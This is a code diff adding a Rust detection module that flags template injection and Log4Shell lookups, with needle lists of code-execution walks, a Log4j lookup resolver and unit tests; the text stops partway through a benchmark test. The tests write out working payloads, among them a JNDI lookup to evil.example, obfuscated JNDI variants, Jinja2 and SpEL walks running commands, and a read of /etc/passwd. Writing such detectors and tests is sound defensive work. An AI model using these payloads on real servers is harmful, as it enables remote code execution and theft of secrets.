@@ -1,7 +1,895 @@
 //! Template and expression injection: engine delimiters, the object walks
 //! and lookups that make them dangerous, JNDI (Log4Shell) lookups.
+//!
+//! A linear scanner extracts the expressions of every common engine
+//! (`{{ }}`, `{% %}`, `${ }`, `#{ }`, `*{ }`, `@{ }`, `%{ }`, `@( )`,
+//! `<% %>`, `<# >`, `[[ ]]`, `[( )]`, Velocity `#set( )` and `$a.b( )`
+//! references, Smarty `{ }` tags); each expression is squashed (escapes
+//! decoded, quotes, concatenation and whitespace removed, lower-cased) so
+//! that `'__cla'+'ss__'` and `|attr("\x5f\x5fclass\x5f\x5f")` read as what
+//! they name, then matched against the walks and calls that reach code
+//! execution. Log4j lookups are resolved by a bounded evaluator over the
+//! `${...}` tree before `jndi:` is looked for.
 
-use super::{Hit, Subject};
+use std::ops::Range;
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use super::{Confidence, Context, Family, Hit, Subject};
+
+/// The longest expression body examined.
+const MAX_BODY: usize = 4096;
+/// The deepest Log4j lookup nesting resolved.
+const MAX_LOOKUP_DEPTH: usize = 32;
+
+/// Walks, lookups and calls that give code execution or file access, in the
+/// squashed form of an expression (lower case, no quotes, no whitespace, no
+/// `+`/`~` concatenation, `[` read as `.`).
+const CODE_EXEC: &[&str] = &[
+    // Python / Jinja2 / Mako / Tornado.
+    "__class__",
+    "__mro__",
+    ".mro()",
+    "__subclasses__",
+    "__globals__",
+    "__builtins__",
+    "__import__",
+    "__init__",
+    "__base__",
+    "__getattribute__",
+    "__dict__",
+    "__code__",
+    "func_globals",
+    "request.application",
+    "_templatereference__context",
+    "|attr(",
+    "os.system",
+    "os.popen",
+    "subprocess",
+    "popen(",
+    "eval(",
+    "exec(",
+    "system(",
+    "importlib",
+    // Java: EL, SpEL, OGNL, Velocity, Freemarker, Thymeleaf, Pebble.
+    "getclass()",
+    ".getclass(",
+    "forname(",
+    "java.lang.runtime",
+    "runtime.getruntime",
+    "getruntime()",
+    "processbuilder",
+    "t(java.lang.runtime",
+    "t(java.lang.system).getenv",
+    "t(java.lang.class)",
+    "t(java.nio.file.files)",
+    "t(org.springframework.util.streamutils)",
+    "java.nio.file.files",
+    "java.io.file(",
+    "java.util.scanner",
+    "javax.script",
+    "scriptenginemanager",
+    "classloader",
+    "getdeclaredmethod",
+    "getmethod(",
+    ".invoke(",
+    "freemarker.template.utility",
+    "?new(",
+    "?api.",
+    "#_memberaccess",
+    "_memberaccess",
+    "ognlcontext",
+    "@java.lang.",
+    "@ognl.",
+    "#context.",
+    "#this.",
+    "jdk.jshell",
+    "nashorn",
+    // JavaScript: Handlebars, Pug, EJS, Nunjucks, Angular sandbox escapes.
+    "constructor.constructor",
+    ".constructor(",
+    "constructor.prototype",
+    "process.mainmodule",
+    "mainmodule.require",
+    "child_process",
+    "process.binding",
+    "execsync",
+    "spawnsync",
+    "readfilesync",
+    "global.process",
+    "require(fs)",
+    // PHP: Twig, Smarty, Blade.
+    "_self.env",
+    "registerundefinedfiltercallback",
+    "getfilter(",
+    "(system)",
+    "(passthru)",
+    "(shell_exec)",
+    "(exec)",
+    "(popen)",
+    "passthru(",
+    "shell_exec(",
+    "proc_open",
+    "file_get_contents(",
+    "phpinfo(",
+    "smarty_internal_write_file",
+    "self::clearconfig",
+    "class.inspect(",
+    "getstreamvariable",
+    "|file_excerpt(",
+    ".execute()",
+    // Ruby ERB / Slim.
+    "%x(",
+    "io.popen",
+    "spawn(",
+    "instance_eval",
+    "class_eval",
+    "open(|",
+    "file.read(/etc/",
+    "file.open(/etc/",
+    "file.read(/proc/",
+    "dir.entries(",
+    // .NET Razor.
+    "system.diagnostics.process",
+    "process.start(",
+    "system.io.file",
+];
+
+/// Expressions that leak the application's configuration or context.
+const LEAKS: &[&str] = &[
+    "config",
+    "config.items()",
+    "config.items",
+    "self",
+    "settings",
+    "request.environ",
+    "_context",
+    "dump(app)",
+    "app.request.server.all",
+    "$smarty.version",
+    "smarty.version",
+    "get_flashed_messages()",
+    "url_for",
+    "lipsum",
+    "cycler",
+    "joiner",
+    "applicationscope",
+    "sessionscope",
+    "systemproperties",
+    "systemenvironment",
+    "handler.settings",
+    "pagecontext",
+    "request.environ",
+    "self.__dict__",
+    "_self",
+];
+
+/// The strongest of [`CODE_EXEC`], looked for in the whole text (an
+/// expression language injected without delimiters: SpEL, OGNL).
+const BARE: &[&str] = &[
+    "t(java.lang.runtime)",
+    "java.lang.runtime",
+    "freemarker.template.utility.execute",
+    "__globals__",
+    "__subclasses__",
+    "__mro__",
+    ".mro()",
+    "__builtins__",
+    "registerundefinedfiltercallback",
+    "#_memberaccess",
+    "ognlcontext",
+    "process.mainmodule",
+    "constructor.constructor",
+];
+
+/// A regex alternation of literal needles (finite automata: linear).
+fn needles(list: &[&str]) -> Option<Regex> {
+    let alt: Vec<String> = list.iter().map(|n| regex::escape(n)).collect();
+    Regex::new(&alt.join("|")).ok()
+}
+
+static CODE_EXEC_RE: LazyLock<Option<Regex>> = LazyLock::new(|| needles(CODE_EXEC));
+static BARE_RE: LazyLock<Option<Regex>> = LazyLock::new(|| needles(BARE).and_then(|re| Regex::new(&format!("(?i){}", re.as_str())).ok()));
+
+/// The kind of delimiter an expression sits in.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    /// `{ }` with no sigil (Smarty, Python format, a JSON object...).
+    Brace,
+    /// `{{ }}`, `{% %}`, `${ }`, `#{ }`, `*{ }`, `@{ }`, `%{ }`, `~{ }`.
+    Sigil,
+    /// `<% %>` (ERB, EJS, JSP).
+    Erb,
+    /// Anything else (`<# >`, `@( )`, `[[ ]]`, Velocity).
+    Other,
+}
+
+/// One expression: the whole span and its body.
+#[derive(Debug)]
+struct Expr {
+    span: Range<usize>,
+    body: Range<usize>,
+    kind: Kind,
+}
 
 /// Template findings in `s`.
-pub(crate) fn analyze(_s: &Subject<'_>, _out: &mut Vec<Hit>) {}
+pub(crate) fn analyze(s: &Subject<'_>, out: &mut Vec<Hit>) {
+    let text = s.text;
+    if !text.bytes().any(|b| matches!(b, b'{' | b'$' | b'<' | b'@' | b'[' | b'#' | b'(' | b'_')) {
+        return;
+    }
+    let code = if s.context == Context::Text { code_spans(text) } else { Vec::new() };
+    let mut push = |c: Confidence, rule: &'static str, at: Range<usize>| {
+        // A write-up quoting an attack in a code span or block is prose.
+        let quoted = code.iter().any(|r| r.start <= at.start && at.start < r.end);
+        let c = if quoted { Confidence::Low } else { c };
+        // A decoded view's hits are raised one level by the caller: a low
+        // one there (a quoted example behind `&lt;` entities) stays unsaid.
+        if !(s.decoded && c == Confidence::Low) {
+            out.push(Hit::new(Family::TemplateInjection, c, rule, at));
+        }
+    };
+
+    if let Some(at) = jndi(text) {
+        push(Confidence::High, "template.jndi-lookup", at);
+    } else if let Some((at, obfuscated)) = log4j_lookup(text) {
+        // A Log4j lookup without JNDI reads the environment into a log line
+        // (`${env:AWS_SECRET_ACCESS_KEY}`, `${sys:user.name}`): an injected
+        // value does that; a Log4j configuration file (XML, several lines)
+        // uses the same syntax legitimately.
+        // PowerShell reads the environment as `${env:Path}`.
+        let powershell = s.context == Context::Shell
+            && text.get(at.start..).is_some_and(|r| r.get(..6).is_some_and(|p| p.eq_ignore_ascii_case("${env:")));
+        let config = text.contains('\n') || text.contains('<') || powershell;
+        let c = if obfuscated || !config { Confidence::Medium } else { Confidence::Low };
+        push(c, "template.log4j-lookup", at);
+    }
+    if text.contains("${{<%[%'\"}}%\\") || text.contains("{{<%[%'\"}}%\\") {
+        push(Confidence::Medium, "template.polyglot", 0..text.len());
+    }
+    let mut exec_found = false;
+    for e in expressions(text) {
+        let Some(body) = text.get(e.body.clone()) else { continue };
+        let sq = squash(body);
+        if e.kind == Kind::Brace && sq == "php" {
+            push(Confidence::High, "template.php-tag", e.span.clone());
+            continue;
+        }
+        // A bare `{...}` in source code is a format string or a block; in a
+        // command line, an awk or jq program or `find -exec {}`.
+        if e.kind == Kind::Brace && matches!(s.context, Context::Code | Context::Shell) {
+            continue;
+        }
+        let backtick = matches!(e.kind, Kind::Erb) && body.contains('`')
+            || text.get(e.span.start..e.span.start + 2) == Some("#{") && body.trim_start().starts_with('`');
+        if CODE_EXEC_RE.as_ref().is_some_and(|re| re.is_match(&sq)) || backtick {
+            exec_found = true;
+            push(Confidence::High, "template.code-execution", e.span.clone());
+            continue;
+        }
+        let core = sq.trim_matches(|c| matches!(c, '{' | '}' | '(' | ')' | '=' | '-' | '%' | '#'));
+        // `{% print 7*7 %}`, `<?= echo 7*7 ?>`.
+        let probe =
+            core.strip_prefix("print").or_else(|| core.strip_prefix("echo")).unwrap_or(core).trim_matches(|c| matches!(c, '(' | ')'));
+        if is_probe(probe) {
+            let c = if s.context == Context::Code { Confidence::Low } else { Confidence::Medium };
+            push(c, "template.probe", e.span.clone());
+        } else if e.kind != Kind::Brace || sq.starts_with('$') {
+            let head = core.split('|').next().unwrap_or(core);
+            // Flask and Django keep the signing key in `config`/`settings`.
+            let secret = head.contains("secret_key") || head.contains(".signer.key");
+            if LEAKS.contains(&core) || LEAKS.contains(&head) || secret {
+                push(Confidence::Medium, "template.object-leak", e.span.clone());
+            }
+        }
+    }
+    if !exec_found
+        && !matches!(s.context, Context::Code | Context::Text)
+        && let Some(m) = BARE_RE.as_ref().and_then(|re| re.find(text))
+    {
+        push(Confidence::Medium, "template.bare-expression", m.range());
+    }
+}
+
+/// `7*7`, `7*'7'`, `1337*1337`: the arithmetic an SSTI probe asks the
+/// engine to evaluate (quotes already squashed away).
+fn is_probe(core: &str) -> bool {
+    let Some((a, b)) = core.split_once('*') else { return false };
+    let num = |x: &str| !x.is_empty() && x.len() <= 8 && x.bytes().all(|c| c.is_ascii_digit());
+    num(a) && num(b)
+}
+
+/// Markdown code spans and fenced blocks (byte ranges).
+pub(crate) fn code_spans(text: &str) -> Vec<Range<usize>> {
+    let mut spans = Vec::new();
+    let b = text.as_bytes();
+    let mut i = 0;
+    let mut fence: Option<usize> = None;
+    let mut inline: Option<usize> = None;
+    while i < b.len() {
+        if b[i] == b'`' {
+            let run = b[i..].iter().take_while(|&&c| c == b'`').count();
+            if run >= 3 {
+                match fence.take() {
+                    Some(start) => spans.push(start..i + run),
+                    None => fence = Some(i),
+                }
+                inline = None;
+            } else if fence.is_none() {
+                match inline.take() {
+                    Some(start) => spans.push(start..i + run),
+                    None => inline = Some(i),
+                }
+            }
+            i += run;
+            continue;
+        }
+        if b[i] == b'\n' && b.get(i + 1) == Some(&b'\n') {
+            inline = None;
+        }
+        i += 1;
+    }
+    if let Some(start) = fence {
+        spans.push(start..b.len());
+    }
+    spans
+}
+
+/// Lower-cases an expression and removes what hides names: `\xNN`,
+/// `\uNNNN` and octal escapes decoded, quotes, whitespace and the `+`/`~`
+/// concatenations dropped, `[` read as `.` (`x["__class__"]`).
+fn squash(body: &str) -> String {
+    let mut out = String::with_capacity(body.len());
+    let mut chars = body.chars().peekable();
+    while let Some(c) = chars.next() {
+        let c = if c == '\\' {
+            match chars.peek().copied() {
+                Some('x') => {
+                    chars.next();
+                    let h: String = chars.by_ref().take(2).collect();
+                    u32::from_str_radix(&h, 16).ok().and_then(char::from_u32).unwrap_or('?')
+                }
+                Some('u') => {
+                    chars.next();
+                    let h: String = chars.by_ref().take(4).collect();
+                    u32::from_str_radix(&h, 16).ok().and_then(char::from_u32).unwrap_or('?')
+                }
+                Some(d @ '0'..='7') => {
+                    let _ = d;
+                    let mut o = String::new();
+                    while let Some(&d) = chars.peek() {
+                        if o.len() < 3 && ('0'..='7').contains(&d) {
+                            o.push(d);
+                            chars.next();
+                        } else {
+                            break;
+                        }
+                    }
+                    u32::from_str_radix(&o, 8).ok().and_then(char::from_u32).unwrap_or('?')
+                }
+                _ => c,
+            }
+        } else {
+            c
+        };
+        match c {
+            '\'' | '"' | '+' | '~' | ']' => {}
+            '[' => out.push('.'),
+            c if c.is_whitespace() => {}
+            c => out.extend(c.to_lowercase()),
+        }
+    }
+    // `.` after `(`, `|` or at the start is the squashed `[`, not a member.
+    out.replace("(.", "(").replace("|.", "|")
+}
+
+/// The expressions of every engine in `text`, in one pass per delimiter
+/// family (each byte visited a bounded number of times).
+fn expressions(text: &str) -> Vec<Expr> {
+    let b = text.as_bytes();
+    let mut out = Vec::new();
+    let cap = |start: usize, end: usize| -> usize {
+        let mut e = end.min(start + MAX_BODY);
+        while !text.is_char_boundary(e) {
+            e -= 1;
+        }
+        e
+    };
+    // Brace groups: a stack gives the top-level pairs; an unclosed opener
+    // runs to the end of the text (a truncated payload).
+    let mut stack: Vec<usize> = Vec::new();
+    let mut unclosed: Option<usize> = None;
+    for (i, &c) in b.iter().enumerate() {
+        match c {
+            b'{' => stack.push(i),
+            b'}' => {
+                if let Some(open) = stack.pop()
+                    && stack.is_empty()
+                {
+                    out.push(brace_expr(text, open, Some(i), cap));
+                }
+            }
+            _ => {}
+        }
+    }
+    if let Some(&open) = stack.first() {
+        unclosed = Some(open);
+    }
+    if let Some(open) = unclosed {
+        out.push(brace_expr(text, open, None, cap));
+    }
+    // Delimited forms other than braces.
+    let mut i = 0;
+    while i + 1 < b.len() {
+        let two = (b[i], b[i + 1]);
+        let found: Option<(usize, Kind, &str)> = match two {
+            (b'<', b'%') => Some((2, Kind::Erb, "%>")),
+            (b'<', b'#') => Some((2, Kind::Other, ">")),
+            (b'[', b'[') => Some((2, Kind::Other, "]]")),
+            (b'[', b'(') => Some((2, Kind::Other, ")]")),
+            _ => None,
+        };
+        if let Some((open_len, kind, close)) = found {
+            let start = i + open_len;
+            let (end, next) = match text.get(start..).and_then(|r| r.find(close)) {
+                Some(p) => (start + p, start + p + close.len()),
+                None => (cap(start, b.len()), b.len()),
+            };
+            let end = cap(start, end);
+            out.push(Expr { span: i..next.max(end), body: start..end, kind });
+            i = next.max(i + 1);
+            continue;
+        }
+        // Paren groups: Razor `@( )`, Velocity `#set( )`/`#if( )`, and `$a.b(...)`
+        // references.
+        let paren_start = match two {
+            (b'@', b'(') => Some(i + 1),
+            (b'#', c) if c.is_ascii_alphabetic() => {
+                let name_end = i + 1 + b[i + 1..].iter().take_while(|c| c.is_ascii_alphanumeric()).count();
+                (b.get(name_end) == Some(&b'(')).then_some(name_end)
+            }
+            _ => None,
+        };
+        if let Some(p) = paren_start {
+            let end = paren_end(b, p, cap(p, b.len()));
+            out.push(Expr { span: i..end, body: p + 1..end.saturating_sub(1).max(p + 1), kind: Kind::Other });
+            i = end.max(i + 1);
+            continue;
+        }
+        let word_before = i > 0 && (b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'.');
+        if (b[i] == b'$' || (b[i] == b'@' && !word_before)) && b[i + 1].is_ascii_alphabetic() {
+            // A Velocity reference `$name(.name | (args))*`, a Razor one
+            // `@Name.Name(args)`, or a Blade `@php ... @endphp` block.
+            let limit = cap(i, b.len());
+            if b[i] == b'@' && text.get(i + 1..i + 4) == Some("php") && !b.get(i + 4).is_some_and(u8::is_ascii_alphanumeric) {
+                let end = text.get(i..limit).and_then(|r| r.find("@endphp")).map_or(limit, |p| i + p);
+                out.push(Expr { span: i..end, body: i + 4..end, kind: Kind::Other });
+                i = end.max(i + 1);
+                continue;
+            }
+            let mut j = i + 1;
+            let mut call = false;
+            while j < limit {
+                let c = b[j];
+                if c.is_ascii_alphanumeric() || c == b'_' || c == b'.' {
+                    j += 1;
+                } else if c == b'(' {
+                    call = true;
+                    j = paren_end(b, j, limit);
+                } else {
+                    break;
+                }
+            }
+            if call {
+                out.push(Expr { span: i..j, body: i + 1..j, kind: Kind::Other });
+            }
+            i = j.max(i + 1);
+            continue;
+        }
+        i += 1;
+    }
+    out
+}
+
+/// One past the `)` closing the `(` at `open` (or `limit`).
+fn paren_end(b: &[u8], open: usize, limit: usize) -> usize {
+    let mut depth = 0usize;
+    let mut j = open;
+    while j < limit {
+        match b[j] {
+            b'(' => depth += 1,
+            b')' => {
+                depth = depth.saturating_sub(1);
+                if depth == 0 {
+                    return j + 1;
+                }
+            }
+            _ => {}
+        }
+        j += 1;
+    }
+    limit
+}
+
+/// A top-level brace group at `open` (closed at `close`) as an expression.
+fn brace_expr(text: &str, open: usize, close: Option<usize>, cap: impl Fn(usize, usize) -> usize) -> Expr {
+    let b = text.as_bytes();
+    let sigil = open.checked_sub(1).and_then(|p| b.get(p)).copied();
+    let kind = match sigil {
+        Some(b'$' | b'#' | b'*' | b'@' | b'%' | b'~') => Kind::Sigil,
+        _ if b.get(open + 1).is_some_and(|c| matches!(c, b'{' | b'%' | b'#')) => Kind::Sigil,
+        _ => Kind::Brace,
+    };
+    let start =
+        if kind == Kind::Sigil && sigil.is_some_and(|c| matches!(c, b'$' | b'#' | b'*' | b'@' | b'%' | b'~')) { open - 1 } else { open };
+    let end = close.unwrap_or(text.len());
+    let body_end = cap(open + 1, end);
+    Expr { span: start..close.map_or(body_end, |c| c + 1), body: open + 1..body_end, kind }
+}
+
+/// Resolves the Log4j lookups of `text` (`${lower:j}`, `${::-n}`,
+/// `${env:X:-d}`, `${date:'i'}`...) innermost first and returns the span of
+/// a lookup that resolves to `jndi:`.
+fn jndi(text: &str) -> Option<Range<usize>> {
+    if !text.contains("${") {
+        return None;
+    }
+    let lower = text.to_ascii_lowercase();
+    if !["jndi", ":-", "lower:", "upper:", "date:"].iter().any(|k| lower.contains(k)) {
+        return None;
+    }
+    // The base buffer, then one per open `${`.
+    let mut stack: Vec<(usize, String)> = vec![(0, String::new())];
+    let mut chars = text.char_indices().peekable();
+    while let Some((i, c)) = chars.next() {
+        if c == '$' && chars.peek().map(|&(_, n)| n) == Some('{') && stack.len() <= MAX_LOOKUP_DEPTH {
+            chars.next();
+            stack.push((i, String::new()));
+            continue;
+        }
+        if c == '}' && stack.len() > 1 {
+            let Some((start, content)) = stack.pop() else { break };
+            let value = match lookup(&content) {
+                Lookup::Jndi => return Some(start..i + 1),
+                Lookup::Value(v) => v,
+            };
+            if let Some((_, parent)) = stack.last_mut() {
+                parent.push_str(&value);
+            }
+            continue;
+        }
+        if let Some((_, buf)) = stack.last_mut() {
+            buf.push(c);
+        }
+    }
+    // An unclosed lookup (a truncated payload) still names its target.
+    stack
+        .iter()
+        .skip(1)
+        .find(|(_, content)| content.trim_start().to_ascii_lowercase().starts_with("jndi:"))
+        .map(|(start, _)| *start..text.len())
+}
+
+/// Log4j lookup prefixes (`${prefix:...}`); `lower`/`upper` only serve to
+/// obfuscate.
+const LOG4J_PREFIXES: &[&str] = &[
+    "env",
+    "sys",
+    "java",
+    "ctx",
+    "main",
+    "jvmrunargs",
+    "k8s",
+    "docker",
+    "spring",
+    "bundle",
+    "web",
+    "marker",
+    "sd",
+    "log4j",
+    "map",
+    "event",
+    "base64",
+    "lower",
+    "upper",
+];
+
+/// The first Log4j lookup in `text` (not JNDI) and whether it is one of
+/// the obfuscating ones (`lower`, `upper`, an empty key with a default).
+fn log4j_lookup(text: &str) -> Option<(Range<usize>, bool)> {
+    let mut from = 0;
+    while let Some(p) = text.get(from..).and_then(|r| r.find("${")) {
+        let start = from + p;
+        let body = text.get(start + 2..).unwrap_or("");
+        if body.starts_with("::-") {
+            return Some((start..start + 5, true));
+        }
+        if let Some((prefix, _)) = body.split_once(':') {
+            let prefix = prefix.to_ascii_lowercase();
+            if LOG4J_PREFIXES.contains(&prefix.as_str()) {
+                let end = body.find('}').map_or(text.len(), |e| start + 2 + e + 1);
+                return Some((start..end, matches!(prefix.as_str(), "lower" | "upper")));
+            }
+        }
+        from = start + 2;
+    }
+    None
+}
+
+/// The result of one Log4j lookup.
+enum Lookup {
+    /// A JNDI lookup.
+    Jndi,
+    /// The text it resolves to.
+    Value(String),
+}
+
+/// Evaluates one lookup body (its inner lookups already resolved).
+fn lookup(content: &str) -> Lookup {
+    let trimmed = content.trim_start();
+    if trimmed.to_ascii_lowercase().starts_with("jndi:") {
+        return Lookup::Jndi;
+    }
+    if let Some((_, default)) = content.split_once(":-") {
+        return Lookup::Value(default.to_owned());
+    }
+    let Some((prefix, rest)) = content.split_once(':') else {
+        // Not a lookup (`${HOME}`, `${user.name}`): kept as written.
+        return Lookup::Value(format!("${{{content}}}"));
+    };
+    Lookup::Value(match prefix.to_ascii_lowercase().as_str() {
+        "lower" => rest.to_lowercase(),
+        "upper" => rest.to_uppercase(),
+        "date" => rest.chars().filter(|&c| c != '\'').collect(),
+        "env" | "sys" | "java" | "ctx" | "main" | "bundle" | "map" | "sd" | "web" | "docker" | "k8s" | "spring" | "log4j"
+        | "jvmrunargs" | "marker" | "event" | "base64" | "" => String::new(),
+        _ => format!("${{{content}}}"),
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn top_in(text: &str, context: Context) -> Option<Confidence> {
+        let s = Subject { text, context, field: "value", tool: "", decoded: false };
+        let mut out = Vec::new();
+        analyze(&s, &mut out);
+        out.iter().map(|h| h.confidence).max()
+    }
+
+    fn top(text: &str) -> Option<Confidence> {
+        top_in(text, Context::Unknown)
+    }
+
+    #[test]
+    fn jndi_lookups_resolved() {
+        for t in [
+            "${jndi:ldap://evil.example/a}",
+            "${${lower:j}ndi:ldap://x/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
+            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
+            "${jndi:${lower:l}${lower:d}a${lower:p}://x/a}",
+            "${${upper:J}NDI:dns://x}",
+            "User-Agent: ${${date:'j'}ndi:iiop://x}",
+            "${jndi:ldap://x/${env:AWS_SECRET_ACCESS_KEY}",
+        ] {
+            assert_eq!(top(t), Some(Confidence::High), "{t}");
+        }
+        assert_eq!(top("${HOME}/bin:${PATH:-/usr/bin}"), None);
+        assert_eq!(top("spring.datasource.url=${DB_URL:jdbc:postgresql://db:5432/app}"), None);
+        assert_eq!(top("jndi-name: java:comp/env/jdbc/app"), None);
+    }
+
+    #[test]
+    fn log4j_lookups_without_jndi() {
+        assert_eq!(top_in("${env:AWS_SECRET_ACCESS_KEY}", Context::Text), Some(Confidence::Medium));
+        assert_eq!(top_in("name=${sys:user.name}", Context::Text), Some(Confidence::Medium));
+        assert_eq!(top("${${lower:x}}"), Some(Confidence::Medium));
+        assert_eq!(
+            top_in("appender.file.fileName=${env:LOG_DIR:-/var/log/app}/app.log\nproperty.level=${sys:log.level:-INFO}", Context::Text),
+            Some(Confidence::Low)
+        );
+        assert_eq!(top_in("<PatternLayout pattern=\"%d %msg ${sys:app.name:-api}%n\"/>", Context::Text), Some(Confidence::Low));
+        assert_eq!(top("${DB_URL:jdbc:postgresql://db/app} ${HOME}"), None);
+        assert_eq!(top_in("Write-Host ${env:Path}", Context::Shell), Some(Confidence::Low));
+    }
+
+    #[test]
+    fn code_execution_walks() {
+        for t in [
+            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+            "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
+            "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
+            "{{ ''['__cla'+'ss__'] }}",
+            "${T(java.lang.Runtime).getRuntime().exec('id')}",
+            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
+            "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
+            "<%= `id` %>",
+            "<%= system('cat /etc/passwd') %>",
+            "#{ `whoami` }",
+            "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
+            "{{['id']|filter('system')}}",
+            "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
+            "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
+            "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
+            "{php}echo `id`;{/php}",
+            "*{T(java.lang.Runtime).getRuntime().exec('id')}",
+        ] {
+            assert_eq!(top(t), Some(Confidence::High), "{t}");
+        }
+    }
+
+    #[test]
+    fn probes_and_leaks() {
+        for t in [
+            "{% print 7*7 %}",
+            "{{ messages.storages.0.signer.key }}",
+            "{7*7}",
+            "{{= 7*7}}",
+            "{{ settings.SECRET_KEY }}",
+            "{{7*7}}",
+            "${7*7}",
+            "#{7*7}",
+            "<%= 7*7 %>",
+            "{{7*'7'}}",
+            "${{7*7}}",
+            "@(7*7)",
+            "[[${7*7}]]",
+            "{{config}}",
+            "{{ config.items() }}",
+            "{$smarty.version}",
+        ] {
+            assert_eq!(top(t), Some(Confidence::Medium), "{t}");
+        }
+        assert_eq!(top_in("{{7*7}}", Context::Code), Some(Confidence::Low));
+    }
+
+    #[test]
+    fn legit_templates_are_quiet() {
+        for t in [
+            "Hello {{ user.name }}, your order {{ order.id }} ships {{ date | date: '%b %d' }}",
+            "image: {{ .Values.image.repository }}:{{ .Values.image.tag | default .Chart.AppVersion }}",
+            "run: echo ${{ github.sha }} && curl -H \"Authorization: Bearer ${{ secrets.TOKEN }}\"",
+            "{% for item in items %}<li>{{ loop.index }} {{ item.title|e }}</li>{% endfor %}",
+            "{% set ns = namespace(found=false) %}{% for x in xs %}{% if x %}{% set ns.found = true %}{% endif %}{% endfor %}",
+            "image: ${REGISTRY:-ghcr.io}/app:${TAG:-latest}",
+            "resource \"aws_s3_bucket\" \"b\" { bucket = \"${var.prefix}-logs\" }",
+            "server.port=${PORT:8080}",
+            "const msg = `Hi ${user.name}, you have ${count} new ${count === 1 ? 'message' : 'messages'}`;",
+            "You have {count, plural, one {# item} other {# items}}",
+            "<%= link_to @user.name, user_path(@user) %>",
+            "{{#each people}}<li>{{this.firstName}}</li>{{/each}}",
+            "{{ range .Items }}{{ .Name }}{{ end }}",
+            "Contact us at support@example.com or #general",
+            "<p>Generated <%= new java.util.Date() %> by ${T(java.time.LocalDate).now()}</p>",
+        ] {
+            assert!(top(t) < Some(Confidence::Medium), "{t}: {:?}", top(t));
+        }
+    }
+
+    #[test]
+    fn quoted_in_markdown_code_is_low() {
+        let doc = "SSTI check: send `{{7*7}}` and then ```\n{{ ''.__class__.__mro__ }}\n``` to see the class list.";
+        assert_eq!(top_in(doc, Context::Text), Some(Confidence::Low));
+        assert_eq!(top_in("Dear {{ ''.__class__.__mro__[1].__subclasses__() }}", Context::Text), Some(Confidence::High));
+    }
+
+    #[test]
+    fn bare_expression_language() {
+        assert_eq!(top("T(java.lang.Runtime).getRuntime().exec('id')"), Some(Confidence::Medium));
+        assert_eq!(top("x.__globals__"), Some(Confidence::Medium));
+        assert_eq!(top_in("def f(cls): return cls.__subclasses__()", Context::Code), None);
+    }
+}
+
+#[cfg(test)]
+mod perf {
+    use super::*;
+
+    /// Adversarial inputs finish in time linear in their size (a quadratic
+    /// scan of 64 KiB would take tens of seconds).
+    #[test]
+    fn adversarial_inputs_are_linear() {
+        let n = 64 * 1024;
+        let inputs = [
+            "{".repeat(n),
+            "${".repeat(n / 2) + "jndi",
+            "${lower:j}".repeat(n / 10) + "${jndi",
+            "<%".repeat(n / 2),
+            "[[".repeat(n / 2),
+            "@(".repeat(n / 2),
+            "#a(".repeat(n / 3),
+            "$a(".repeat(n / 3),
+            "{{a}}".repeat(n / 5),
+            "../".repeat(n / 3),
+            "..%2f".repeat(n / 5),
+            "%c0%ae".repeat(n / 6),
+            "a/b/../c ".repeat(n / 9),
+        ];
+        for text in &inputs {
+            let started = std::time::Instant::now();
+            for context in [Context::Unknown, Context::Text, Context::Path] {
+                let s = Subject { text, context, field: "value", tool: "", decoded: false };
+                let mut out = Vec::new();
+                analyze(&s, &mut out);
+                super::super::path::analyze(&s, &mut out);
+            }
+            let took = started.elapsed();
+            assert!(took.as_secs() < 5, "{:?}: {took:?}", text.get(..12));
+            println!("{:>14?} {:?}", took, text.get(..12));
+        }
+    }
+}
+
+#[cfg(test)]
+mod bench_corpus {
+    use super::*;
+
+    /// Throughput over the corpus strings (run with --ignored --nocapture).
+    #[test]
+    #[ignore = "a measurement, not a check"]
+    fn corpus_throughput() {
+        let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/corpus/payloads");
+        let mut strings = Vec::new();
+        fn walk(v: &serde_json::Value, out: &mut Vec<String>) {
+            match v {
+                serde_json::Value::String(s) => out.push(s.clone()),
+                serde_json::Value::Array(a) => a.iter().for_each(|x| walk(x, out)),
+                serde_json::Value::Object(m) => m.iter().for_each(|(k, x)| {
+                    out.push(k.clone());
+                    walk(x, out)
+                }),
+                _ => {}
+            }
+        }
+        for e in std::fs::read_dir(dir).unwrap() {
+            let p = e.unwrap().path();
+            for line in std::fs::read_to_string(&p).unwrap().lines() {
+                let v: serde_json::Value = serde_json::from_str(line).unwrap();
+                walk(&v["payload"], &mut strings);
+            }
+        }
+        let bytes: usize = strings.iter().map(String::len).sum();
+        let rounds = 50;
+        for which in ["template", "path"] {
+            let started = std::time::Instant::now();
+            let mut n = 0;
+            for _ in 0..rounds {
+                for t in &strings {
+                    for context in [Context::Unknown, Context::Text] {
+                        let s = Subject { text: t, context, field: "value", tool: "", decoded: false };
+                        let mut out = Vec::new();
+                        if which == "template" {
+                            analyze(&s, &mut out);
+                        } else {
+                            super::super::path::analyze(&s, &mut out);
+                        }
+                        n += out.len();
+                    }
+                }
+            }
+            let per_kib = started.elapsed().as_secs_f64() * 1e6 / (rounds as f64 * 2.0 * bytes as f64 / 1024.0);
+            println!("{which}: {} strings, {bytes} bytes, {n} hits, {per_kib:.2} us/KiB", strings.len());
+        }
+        // One large document made of every string (the per-call overhead amortized).
+        let doc = strings.join("\n");
+        for which in ["template", "path"] {
+            let started = std::time::Instant::now();
+            for _ in 0..rounds {
+                for context in [Context::Unknown, Context::Text, Context::Code] {
+                    let s = Subject { text: &doc, context, field: "value", tool: "", decoded: false };
